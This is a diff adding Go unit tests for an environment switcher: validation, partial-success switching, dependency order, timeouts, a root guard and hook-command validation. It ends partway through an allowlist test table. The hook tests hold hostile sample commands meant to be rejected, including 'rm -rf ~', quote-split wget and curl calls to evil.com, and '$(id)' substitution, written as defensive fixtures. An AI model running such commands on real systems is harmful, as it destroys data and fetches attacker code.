@@ -5,9 +5,24 @@ package environment
 
 import (
 	"context"
+	"errors"
+	"fmt"
+	"reflect"
+	"sort"
+	"strings"
 	"testing"
+	"time"
 )
 
+// newTestSwitcher creates a switcher whose effective UID is pinned to a
+// non-root user, so tests behave the same whether or not CI runs them as
+// root.
+func newTestSwitcher() *EnvironmentSwitcher {
+	es := NewEnvironmentSwitcher()
+	es.geteuid = func() int { return 1000 }
+	return es
+}
+
 // mockSwitcher is a mock implementation of ServiceSwitcher for testing.
 type mockSwitcher struct {
 	name         string
@@ -44,9 +59,9 @@ func (m *mockSwitcher) Rollback(ctx context.Context, previousState interface{})
 
 // TestNewEnvironmentSwitcher tests the constructor.
 func TestNewEnvironmentSwitcher(t *testing.T) {
-	switcher := NewEnvironmentSwitcher()
+	switcher := newTestSwitcher()
 	if switcher == nil {
-		t.Fatal("NewEnvironmentSwitcher() returned nil")
+		t.Fatal("newTestSwitcher() returned nil")
 	}
 
 	if switcher.serviceSwitchers == nil {
@@ -56,7 +71,7 @@ func TestNewEnvironmentSwitcher(t *testing.T) {
 
 // TestEnvironmentSwitcher_RegisterServiceSwitcher tests service registration.
 func TestEnvironmentSwitcher_RegisterServiceSwitcher(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	mock := newMockSwitcher("test-service")
 
 	es.RegisterServiceSwitcher("test-service", mock)
@@ -77,7 +92,7 @@ func TestEnvironmentSwitcher_RegisterServiceSwitcher(t *testing.T) {
 
 // TestEnvironmentSwitcher_Register tests the Register alias method.
 func TestEnvironmentSwitcher_Register(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	mock := newMockSwitcher("auto-named-service")
 
 	es.Register(mock)
@@ -98,7 +113,7 @@ func TestEnvironmentSwitcher_Register(t *testing.T) {
 
 // TestEnvironmentSwitcher_SetProgressCallback tests callback setting.
 func TestEnvironmentSwitcher_SetProgressCallback(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 
 	callback := func(progress SwitchProgress) {
 		// Callback function for testing
@@ -114,7 +129,7 @@ func TestEnvironmentSwitcher_SetProgressCallback(t *testing.T) {
 
 // TestEnvironmentSwitcher_GetAvailableServices tests service listing.
 func TestEnvironmentSwitcher_GetAvailableServices(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 
 	// Initially should be empty
 	services := es.GetAvailableServices()
@@ -135,7 +150,7 @@ func TestEnvironmentSwitcher_GetAvailableServices(t *testing.T) {
 
 // TestEnvironmentSwitcher_MultipleRegistrations tests overwriting registration.
 func TestEnvironmentSwitcher_MultipleRegistrations(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 
 	mock1 := newMockSwitcher("same-name")
 	mock2 := newMockSwitcher("same-name")
@@ -237,6 +252,71 @@ func TestValidateHookCommand(t *testing.T) {
 			command:   "sleep 100 & ",
 			wantError: true,
 		},
+		{
+			name:      "quoted operators in an argument",
+			command:   `kubectl annotate deploy app note='rollout && verify'`,
+			wantError: false,
+		},
+		{
+			name:      "semicolon in a double-quoted argument",
+			command:   `echo "backup; done"`,
+			wantError: false,
+		},
+		{
+			name:      "pipe in a single-quoted argument",
+			command:   `echo 'a | b'`,
+			wantError: false,
+		},
+		{
+			name:      "unterminated single quote",
+			command:   `echo 'oops`,
+			wantError: true,
+		},
+		{
+			name:      "unterminated double quote",
+			command:   `echo "oops`,
+			wantError: true,
+		},
+		{
+			name:      "escaped quotes hiding an operator",
+			command:   `echo \'; rm -rf ~ \'`,
+			wantError: true,
+		},
+		{
+			name:      "escaped double quotes hiding an operator",
+			command:   `echo "a\" && rm x \"b"`,
+			wantError: true,
+		},
+		{
+			name:      "escaped operator",
+			command:   `echo hi \&\& id`,
+			wantError: true,
+		},
+		{
+			name:      "command substitution in double quotes",
+			command:   `echo "$(id)"`,
+			wantError: true,
+		},
+		{
+			name:      "backtick in double quotes",
+			command:   "echo \"`id`\"",
+			wantError: true,
+		},
+		{
+			name:      "quoted command name",
+			command:   `"wget" http://evil.com`,
+			wantError: true,
+		},
+		{
+			name:      "command name split by quotes",
+			command:   `w''get http://evil.com`,
+			wantError: true,
+		},
+		{
+			name:      "operators in a shell script argument",
+			command:   `sh -c 'true && curl http://evil.com'`,
+			wantError: true,
+		},
 	}
 
 	for _, tt := range tests {
@@ -305,6 +385,28 @@ func TestEnvironment_Validate(t *testing.T) {
 			},
 			wantError: true,
 		},
+		{
+			name: "empty service config",
+			env: Environment{
+				Name: "test",
+				Services: map[string]ServiceConfig{
+					"aws":    {AWS: &AWSConfig{Profile: "default"}},
+					"docker": {},
+				},
+			},
+			wantError: true,
+		},
+		{
+			name: "empty alias",
+			env: Environment{
+				Name:    "test",
+				Aliases: []string{"t", " "},
+				Services: map[string]ServiceConfig{
+					"aws": {AWS: &AWSConfig{Profile: "default"}},
+				},
+			},
+			wantError: true,
+		},
 	}
 
 	for _, tt := range tests {
@@ -355,9 +457,35 @@ not: valid: yaml: here
 	}
 }
 
+// TestLoadEnvironmentFromReader tests loading a YAML document piped in on
+// standard input, as `--from-file -` does.
+func TestLoadEnvironmentFromReader(t *testing.T) {
+	stdin := strings.NewReader(`name: generated
+services:
+  kubernetes:
+    kubernetes:
+      context: " preview-42 "
+`)
+
+	env, err := LoadEnvironmentFromReader(stdin)
+	if err != nil {
+		t.Fatalf("LoadEnvironmentFromReader() error = %v", err)
+	}
+	if env.Name != "generated" {
+		t.Errorf("Name = %q, want %q", env.Name, "generated")
+	}
+	if got := env.Services["kubernetes"].Kubernetes.Context; got != "preview-42" {
+		t.Errorf("Context = %q, want the normalized %q", got, "preview-42")
+	}
+
+	if _, err := LoadEnvironmentFromReader(strings.NewReader("")); err == nil {
+		t.Error("LoadEnvironmentFromReader() should fail for empty input")
+	}
+}
+
 // TestEnvironmentSwitcher_SwitchEnvironment tests environment switching.
 func TestEnvironmentSwitcher_SwitchEnvironment(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	awsMock := newMockSwitcher("aws")
 	es.Register(awsMock)
 
@@ -392,7 +520,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_InvalidEnv tests switching with invalid env.
 func TestEnvironmentSwitcher_SwitchEnvironment_InvalidEnv(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 
 	env := &Environment{
 		Name:     "",
@@ -409,7 +537,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_InvalidEnv(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_NoSwitcher tests switching without switcher.
 func TestEnvironmentSwitcher_SwitchEnvironment_NoSwitcher(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	// Don't register any switcher
 
 	env := &Environment{
@@ -431,7 +559,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_NoSwitcher(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_DryRun tests dry run mode.
 func TestEnvironmentSwitcher_SwitchEnvironment_DryRun(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	awsMock := newMockSwitcher("aws")
 	es.Register(awsMock)
 
@@ -463,7 +591,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_DryRun(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_WithProgress tests progress callback.
 func TestEnvironmentSwitcher_SwitchEnvironment_WithProgress(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	awsMock := newMockSwitcher("aws")
 	es.Register(awsMock)
 
@@ -516,7 +644,7 @@ func (m *errorMockSwitcher) Rollback(ctx context.Context, previousState interfac
 
 // TestEnvironmentSwitcher_SwitchEnvironment_SwitchError tests error handling.
 func TestEnvironmentSwitcher_SwitchEnvironment_SwitchError(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	errorMock := newErrorMockSwitcher("aws")
 	es.Register(errorMock)
 
@@ -547,7 +675,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_SwitchError(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_Rollback tests rollback on error.
 func TestEnvironmentSwitcher_SwitchEnvironment_Rollback(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	errorMock := newErrorMockSwitcher("aws")
 	es.Register(errorMock)
 
@@ -571,7 +699,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_Rollback(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_MultipleServices tests multiple services.
 func TestEnvironmentSwitcher_SwitchEnvironment_MultipleServices(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	awsMock := newMockSwitcher("aws")
 	dockerMock := newMockSwitcher("docker")
 	es.Register(awsMock)
@@ -607,7 +735,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_MultipleServices(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_Parallel tests parallel switching.
 func TestEnvironmentSwitcher_SwitchEnvironment_Parallel(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	awsMock := newMockSwitcher("aws")
 	dockerMock := newMockSwitcher("docker")
 	es.Register(awsMock)
@@ -641,9 +769,63 @@ func TestEnvironmentSwitcher_SwitchEnvironment_Parallel(t *testing.T) {
 	}
 }
 
+// slowSwitcher is a mockSwitcher whose Switch takes delay.
+type slowSwitcher struct {
+	*mockSwitcher
+	delay time.Duration
+}
+
+func (s *slowSwitcher) Switch(ctx context.Context, config interface{}) error {
+	time.Sleep(s.delay)
+	return s.mockSwitcher.Switch(ctx, config)
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_ParallelOrder tests that a
+// parallel switch lists services by dependency level and then by name,
+// whichever finishes first, on every run.
+func TestEnvironmentSwitcher_SwitchEnvironment_ParallelOrder(t *testing.T) {
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":        {AWS: &AWSConfig{Profile: "test"}},
+			"docker":     {Docker: &DockerConfig{Context: "default"}},
+			"gcp":        {GCP: &GCPConfig{Project: "test"}},
+			"kubernetes": {Kubernetes: &KubernetesConfig{Context: "test"}},
+			"ssh":        {SSH: &SSHConfig{Config: "~/.ssh/config"}},
+		},
+		Dependencies: []string{"gcp -> kubernetes", "gcp -> ssh"},
+	}
+	// Services earlier in the order take longer, so they finish last.
+	delays := map[string]time.Duration{
+		"aws":        15 * time.Millisecond,
+		"docker":     10 * time.Millisecond,
+		"gcp":        5 * time.Millisecond,
+		"kubernetes": 10 * time.Millisecond,
+	}
+
+	for run := 0; run < 10; run++ {
+		es := newTestSwitcher()
+		for name := range env.Services {
+			mock := newMockSwitcher(name)
+			if name == "docker" {
+				mock.switchError = errors.New("daemon not running")
+			}
+			es.Register(&slowSwitcher{mockSwitcher: mock, delay: delays[name]})
+		}
+
+		result, _ := es.SwitchEnvironment(context.Background(), env, SwitchOptions{Parallel: true, PartialSuccess: true})
+		if want := []string{"aws", "gcp", "kubernetes", "ssh"}; fmt.Sprint(result.SwitchedServices) != fmt.Sprint(want) {
+			t.Fatalf("run %d: SwitchedServices = %v, want %v", run, result.SwitchedServices, want)
+		}
+		if want := []string{"docker"}; fmt.Sprint(result.FailedServices) != fmt.Sprint(want) {
+			t.Fatalf("run %d: FailedServices = %v, want %v", run, result.FailedServices, want)
+		}
+	}
+}
+
 // TestEnvironmentSwitcher_SwitchEnvironment_AllServiceTypes tests all service types.
 func TestEnvironmentSwitcher_SwitchEnvironment_AllServiceTypes(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	es.Register(newMockSwitcher("aws"))
 	es.Register(newMockSwitcher("gcp"))
 	es.Register(newMockSwitcher("azure"))
@@ -677,7 +859,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_AllServiceTypes(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_UnknownService tests unknown service type.
 func TestEnvironmentSwitcher_SwitchEnvironment_UnknownService(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	es.Register(newMockSwitcher("unknown-service"))
 
 	env := &Environment{
@@ -697,7 +879,7 @@ func TestEnvironmentSwitcher_SwitchEnvironment_UnknownService(t *testing.T) {
 
 // TestEnvironmentSwitcher_SwitchEnvironment_NilConfig tests nil config for service.
 func TestEnvironmentSwitcher_SwitchEnvironment_NilConfig(t *testing.T) {
-	es := NewEnvironmentSwitcher()
+	es := newTestSwitcher()
 	es.Register(newMockSwitcher("aws"))
 
 	env := &Environment{
@@ -719,3 +901,658 @@ func TestEnvironmentSwitcher_SwitchEnvironment_NilConfig(t *testing.T) {
 	}
 	// Either outcome is acceptable for nil config
 }
+
+// TestEnvironmentSwitcher_SwitchEnvironment_EmptyServiceRejected tests that an
+// empty service config fails validation before any service is switched.
+func TestEnvironmentSwitcher_SwitchEnvironment_EmptyServiceRejected(t *testing.T) {
+	es := newTestSwitcher()
+	awsMock := newMockSwitcher("aws")
+	es.Register(awsMock)
+	es.Register(newMockSwitcher("docker"))
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":    {AWS: &AWSConfig{Profile: "test"}},
+			"docker": {},
+		},
+	}
+
+	_, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{})
+	if err == nil {
+		t.Fatal("SwitchEnvironment() should reject an empty service config")
+	}
+
+	if !strings.Contains(err.Error(), "validation failed") || !strings.Contains(err.Error(), "docker") {
+		t.Errorf("error = %q, want validation error naming docker", err.Error())
+	}
+
+	if awsMock.switchCalled {
+		t.Error("no service should be switched when validation fails")
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_RefusesRoot tests the root guard.
+func TestEnvironmentSwitcher_SwitchEnvironment_RefusesRoot(t *testing.T) {
+	es := newTestSwitcher()
+	es.geteuid = func() int { return 0 }
+	awsMock := newMockSwitcher("aws")
+	es.Register(awsMock)
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws": {AWS: &AWSConfig{Profile: "test"}},
+		},
+		PreHooks: []Hook{{Command: "echo pre"}},
+	}
+
+	_, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{})
+	if !errors.Is(err, ErrRunningAsRoot) {
+		t.Fatalf("SwitchEnvironment() error = %v, want ErrRunningAsRoot", err)
+	}
+	if awsMock.switchCalled {
+		t.Error("no service should be switched when running as root")
+	}
+
+	result, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{AllowRoot: true})
+	if err != nil {
+		t.Fatalf("SwitchEnvironment() with AllowRoot error = %v", err)
+	}
+	if !result.Success || !awsMock.switchCalled {
+		t.Error("SwitchEnvironment() with AllowRoot should switch services")
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_PartialSuccess tests that failures
+// don't abort the switch in partial-success mode.
+func TestEnvironmentSwitcher_SwitchEnvironment_PartialSuccess(t *testing.T) {
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":    {AWS: &AWSConfig{Profile: "test"}},
+			"gcp":    {GCP: &GCPConfig{Project: "test"}},
+			"docker": {Docker: &DockerConfig{Context: "test"}},
+			"ssh":    {SSH: &SSHConfig{Config: "test"}},
+		},
+	}
+
+	for _, parallel := range []bool{false, true} {
+		t.Run(fmt.Sprintf("parallel=%v", parallel), func(t *testing.T) {
+			es := newTestSwitcher()
+			es.Register(newErrorMockSwitcher("aws"))
+			gcpMock := newMockSwitcher("gcp")
+			dockerMock := newMockSwitcher("docker")
+			es.Register(gcpMock)
+			es.Register(dockerMock)
+			// ssh has no registered switcher and fails before switching.
+
+			result, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{
+				PartialSuccess:  true,
+				Parallel:        parallel,
+				RollbackOnError: true,
+			})
+			if err != nil {
+				t.Fatalf("SwitchEnvironment() error = %v", err)
+			}
+
+			if !result.Success || !result.Partial {
+				t.Errorf("Success = %v, Partial = %v, want true, true", result.Success, result.Partial)
+			}
+			if result.RollbackPerformed {
+				t.Error("partial success should not roll back switched services")
+			}
+			if !gcpMock.switchCalled || !dockerMock.switchCalled {
+				t.Error("remaining services should be switched after a failure")
+			}
+
+			sort.Strings(result.FailedServices)
+			if strings.Join(result.FailedServices, ",") != "aws,ssh" {
+				t.Errorf("FailedServices = %v, want [aws ssh]", result.FailedServices)
+			}
+			if len(result.Errors) != 2 {
+				t.Errorf("len(Errors) = %d, want 2: %+v", len(result.Errors), result.Errors)
+			}
+		})
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_PartialSuccessDependents tests
+// that services depending on a failed service are skipped, not switched.
+func TestEnvironmentSwitcher_SwitchEnvironment_PartialSuccessDependents(t *testing.T) {
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":        {AWS: &AWSConfig{Profile: "test"}},
+			"kubernetes": {Kubernetes: &KubernetesConfig{Context: "test"}},
+			"ssh":        {SSH: &SSHConfig{Config: "test"}},
+			"docker":     {Docker: &DockerConfig{Context: "test"}},
+		},
+		Dependencies: []string{"aws -> kubernetes", "kubernetes -> ssh"},
+	}
+
+	for _, parallel := range []bool{false, true} {
+		t.Run(fmt.Sprintf("parallel=%v", parallel), func(t *testing.T) {
+			es := newTestSwitcher()
+			es.Register(newErrorMockSwitcher("aws"))
+			kubernetesMock := newMockSwitcher("kubernetes")
+			sshMock := newMockSwitcher("ssh")
+			dockerMock := newMockSwitcher("docker")
+			es.Register(kubernetesMock)
+			es.Register(sshMock)
+			es.Register(dockerMock)
+
+			result, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{PartialSuccess: true, Parallel: parallel})
+			if err != nil {
+				t.Fatalf("SwitchEnvironment() error = %v", err)
+			}
+
+			if kubernetesMock.switchCalled || sshMock.switchCalled {
+				t.Error("services depending on a failed service should not be switched")
+			}
+			if !dockerMock.switchCalled || !result.Partial {
+				t.Errorf("result = %+v, want docker switched in a partial switch", result)
+			}
+			want := []SkippedService{
+				{Service: "kubernetes", Reason: "depends on aws, which failed"},
+				{Service: "ssh", Reason: "depends on kubernetes, which was skipped"},
+			}
+			if !reflect.DeepEqual(result.SkippedServices, want) {
+				t.Errorf("SkippedServices = %+v, want %+v", result.SkippedServices, want)
+			}
+			if got := unswitched(result); strings.Join(got, ",") != "aws,kubernetes,ssh" {
+				t.Errorf("unswitched() = %v, want [aws kubernetes ssh]", got)
+			}
+		})
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_PartialSuccessAllFail tests that
+// the switch fails when no service succeeds.
+func TestEnvironmentSwitcher_SwitchEnvironment_PartialSuccessAllFail(t *testing.T) {
+	es := newTestSwitcher()
+	es.Register(newErrorMockSwitcher("aws"))
+	es.Register(newErrorMockSwitcher("gcp"))
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws": {AWS: &AWSConfig{Profile: "test"}},
+			"gcp": {GCP: &GCPConfig{Project: "test"}},
+		},
+	}
+
+	result, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{PartialSuccess: true})
+	if err == nil {
+		t.Fatal("SwitchEnvironment() should fail when all services fail")
+	}
+	if result.Success || result.Partial {
+		t.Errorf("Success = %v, Partial = %v, want false, false", result.Success, result.Partial)
+	}
+	if len(result.Errors) != 2 {
+		t.Errorf("len(Errors) = %d, want 2", len(result.Errors))
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_ServiceEvents tests that started and
+// completed events fire for each service in dependency order.
+func TestEnvironmentSwitcher_SwitchEnvironment_ServiceEvents(t *testing.T) {
+	es := newTestSwitcher()
+	es.Register(newMockSwitcher("aws"))
+	es.Register(newMockSwitcher("kubernetes"))
+
+	var events []ServiceEvent
+	es.SetServiceEventCallback(func(event ServiceEvent) {
+		events = append(events, event)
+	})
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":        {AWS: &AWSConfig{Profile: "test"}},
+			"kubernetes": {Kubernetes: &KubernetesConfig{Context: "test"}},
+		},
+		Dependencies: []string{"aws -> kubernetes"},
+	}
+
+	if _, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{}); err != nil {
+		t.Fatalf("SwitchEnvironment() error = %v", err)
+	}
+
+	want := []string{"aws:started", "aws:completed", "kubernetes:started", "kubernetes:completed"}
+	got := make([]string, 0, len(events))
+	for _, event := range events {
+		got = append(got, event.Service+":"+string(event.Type))
+	}
+	if strings.Join(got, ",") != strings.Join(want, ",") {
+		t.Fatalf("events = %v, want %v", got, want)
+	}
+
+	for i := 1; i < len(events); i++ {
+		if events[i].Time.Before(events[i-1].Time) {
+			t.Errorf("event %d time %v is before event %d time %v", i, events[i].Time, i-1, events[i-1].Time)
+		}
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_ServiceFailedEvent tests the failed event.
+func TestEnvironmentSwitcher_SwitchEnvironment_ServiceFailedEvent(t *testing.T) {
+	es := newTestSwitcher()
+	es.Register(newErrorMockSwitcher("aws"))
+
+	var events []ServiceEvent
+	es.SetServiceEventCallback(func(event ServiceEvent) {
+		events = append(events, event)
+	})
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws": {AWS: &AWSConfig{Profile: "test"}},
+		},
+	}
+
+	if _, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{}); err == nil {
+		t.Fatal("SwitchEnvironment() should fail with error mock")
+	}
+
+	if len(events) != 2 {
+		t.Fatalf("len(events) = %d, want 2", len(events))
+	}
+	if events[0].Type != ServiceStarted || events[1].Type != ServiceFailed {
+		t.Errorf("events = %s, %s, want started, failed", events[0].Type, events[1].Type)
+	}
+	if events[1].Error == "" {
+		t.Error("failed event should carry the error")
+	}
+}
+
+// TestEffectiveTimeout tests environment and option timeout precedence.
+func TestEffectiveTimeout(t *testing.T) {
+	tests := []struct {
+		name       string
+		envTimeout time.Duration
+		optTimeout time.Duration
+		want       time.Duration
+	}{
+		{name: "neither set", want: 0},
+		{name: "environment only", envTimeout: 10 * time.Minute, want: 10 * time.Minute},
+		{name: "options only", optTimeout: 5 * time.Minute, want: 5 * time.Minute},
+		{name: "environment smaller", envTimeout: time.Minute, optTimeout: 5 * time.Minute, want: time.Minute},
+		{name: "options smaller", envTimeout: 10 * time.Minute, optTimeout: 5 * time.Minute, want: 5 * time.Minute},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := effectiveTimeout(tt.envTimeout, tt.optTimeout); got != tt.want {
+				t.Errorf("effectiveTimeout(%v, %v) = %v, want %v", tt.envTimeout, tt.optTimeout, got, tt.want)
+			}
+		})
+	}
+}
+
+// blockingSwitcher is a mock switcher whose Switch blocks until the context ends.
+type blockingSwitcher struct {
+	mockSwitcher
+}
+
+func (b *blockingSwitcher) Switch(ctx context.Context, config interface{}) error {
+	<-ctx.Done()
+	return ctx.Err()
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_EnvironmentTimeout tests that the
+// environment timeout bounds the switch when no option timeout is given.
+func TestEnvironmentSwitcher_SwitchEnvironment_EnvironmentTimeout(t *testing.T) {
+	data := []byte(`
+name: slow
+timeout: 50ms
+services:
+  aws:
+    aws:
+      profile: test
+`)
+	env, err := LoadEnvironment(data)
+	if err != nil {
+		t.Fatalf("LoadEnvironment() error = %v", err)
+	}
+	if env.Timeout != 50*time.Millisecond {
+		t.Fatalf("Timeout = %v, want 50ms", env.Timeout)
+	}
+
+	es := newTestSwitcher()
+	es.Register(&blockingSwitcher{mockSwitcher{name: "aws"}})
+
+	start := time.Now()
+	_, err = es.SwitchEnvironment(context.Background(), env, SwitchOptions{})
+	if !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("SwitchEnvironment() error = %v, want deadline exceeded", err)
+	}
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("SwitchEnvironment() took %v, want the environment timeout to apply", elapsed)
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchEnvironment_DisabledService tests that a
+// disabled service is skipped and dependencies naming it are dropped.
+func TestEnvironmentSwitcher_SwitchEnvironment_DisabledService(t *testing.T) {
+	disabled := false
+	enabled := true
+
+	es := newTestSwitcher()
+	awsMock := newMockSwitcher("aws")
+	dockerMock := newMockSwitcher("docker")
+	kubernetesMock := newMockSwitcher("kubernetes")
+	es.Register(awsMock)
+	es.Register(dockerMock)
+	es.Register(kubernetesMock)
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":        {AWS: &AWSConfig{Profile: "test"}, Enabled: &disabled},
+			"docker":     {Docker: &DockerConfig{Context: "default"}, Enabled: &enabled},
+			"kubernetes": {Kubernetes: &KubernetesConfig{Context: "dev"}},
+		},
+		Dependencies: []string{"aws -> kubernetes", "docker -> kubernetes"},
+	}
+
+	result, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{})
+	if err != nil {
+		t.Fatalf("SwitchEnvironment() error = %v", err)
+	}
+
+	if awsMock.switchCalled {
+		t.Error("disabled service aws should not be switched")
+	}
+	if !dockerMock.switchCalled || !kubernetesMock.switchCalled {
+		t.Error("enabled services should be switched")
+	}
+	if want := []string{"docker", "kubernetes"}; fmt.Sprint(result.SwitchedServices) != fmt.Sprint(want) {
+		t.Errorf("SwitchedServices = %v, want %v", result.SwitchedServices, want)
+	}
+}
+
+// TestEnvironment_EnabledDependencies tests which dependencies survive disabling.
+func TestEnvironment_EnabledDependencies(t *testing.T) {
+	disabled := false
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":        {AWS: &AWSConfig{Profile: "test"}, Enabled: &disabled},
+			"docker":     {Docker: &DockerConfig{Context: "default"}},
+			"kubernetes": {Kubernetes: &KubernetesConfig{Context: "dev"}},
+		},
+		Dependencies: []string{"aws -> kubernetes", "docker -> kubernetes", "gcp -> docker"},
+	}
+
+	// The undeclared gcp is kept so that strict resolution still reports it.
+	want := []string{"docker -> kubernetes", "gcp -> docker"}
+	if got := env.EnabledDependencies(); fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("EnabledDependencies() = %v, want %v", got, want)
+	}
+}
+
+// TestEnvironment_Validate_Disabled tests validation of disabled services.
+func TestEnvironment_Validate_Disabled(t *testing.T) {
+	disabled := false
+
+	tests := []struct {
+		name     string
+		services map[string]ServiceConfig
+		wantErr  bool
+	}{
+		{
+			name: "disabled empty block",
+			services: map[string]ServiceConfig{
+				"aws":    {AWS: &AWSConfig{Profile: "test"}},
+				"docker": {Enabled: &disabled},
+			},
+		},
+		{
+			name: "all disabled",
+			services: map[string]ServiceConfig{
+				"aws": {AWS: &AWSConfig{Profile: "test"}, Enabled: &disabled},
+			},
+			wantErr: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			env := &Environment{Name: "test-env", Services: tt.services}
+			if err := env.Validate(); (err != nil) != tt.wantErr {
+				t.Errorf("Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+// TestLoadEnvironment_Enabled tests parsing the enabled toggle from YAML.
+func TestLoadEnvironment_Enabled(t *testing.T) {
+	env, err := LoadEnvironment([]byte(`
+name: test-env
+services:
+  aws:
+    enabled: false
+    aws:
+      profile: test
+  docker:
+    docker:
+      context: default
+`))
+	if err != nil {
+		t.Fatalf("LoadEnvironment() error = %v", err)
+	}
+
+	if env.Services["aws"].IsEnabled() {
+		t.Error("aws should be disabled")
+	}
+	if !env.Services["docker"].IsEnabled() {
+		t.Error("docker should be enabled by default")
+	}
+}
+
+// TestEnvironmentSwitcher_MissingSwitchers tests finding services that cannot be switched.
+func TestEnvironmentSwitcher_MissingSwitchers(t *testing.T) {
+	es := newTestSwitcher()
+	es.Register(newMockSwitcher("aws"))
+
+	disabled := false
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":    {AWS: &AWSConfig{Profile: "test"}},
+			"ssh":    {SSH: &SSHConfig{Config: "~/.ssh/config"}},
+			"gcp":    {GCP: &GCPConfig{Project: "test"}},
+			"docker": {Docker: &DockerConfig{Context: "default"}, Enabled: &disabled},
+		},
+	}
+
+	if got, want := strings.Join(es.MissingSwitchers(env), ","), "gcp,ssh"; got != want {
+		t.Errorf("MissingSwitchers() = %v, want %v", got, want)
+	}
+	if !es.HasSwitcher("aws") || es.HasSwitcher("gcp") {
+		t.Error("HasSwitcher() should report only aws")
+	}
+}
+
+// TestValidateHookCommand_Allowlist tests hook validation in allowlist mode.
+func TestValidateHookCommand_Allowlist(t *testing.T) {
+	allowlist := []string{"kubectl config use-context", "/usr/local/bin/vpn-up", " aws sso login "}
+
+	tests := []struct {
+		name      string
+		command   string
+		wantError bool
+	}{
+		{"exact prefix", "kubectl config use-context", false},
+		{"prefix with arguments", "kubectl config use-context prod", false},
+		{"absolute path", "/usr/local/bin/vpn-up --profile work", false},
+		{"prefix with surrounding spaces", "aws sso login --profile dev", false},
+		{"not allowed", "echo hello", true},
+		{"prefix without word boundary", "kubectl config use-contexts prod", true},
+		{"prefix of an allowed command", "kubectl config", true},
+		{"allowed prefix with dangerous pattern", "kubectl config use-context prod && echo hi", true},
+		{"every line allowed", "kubectl config use-context prod\n/usr/local/bin/vpn-up", false},
+		{"quoted newline", "kubectl config use-context 'prod\necho hi'", false},
+		{"second line not allowed", "kubectl config use-context prod\necho hi", true},
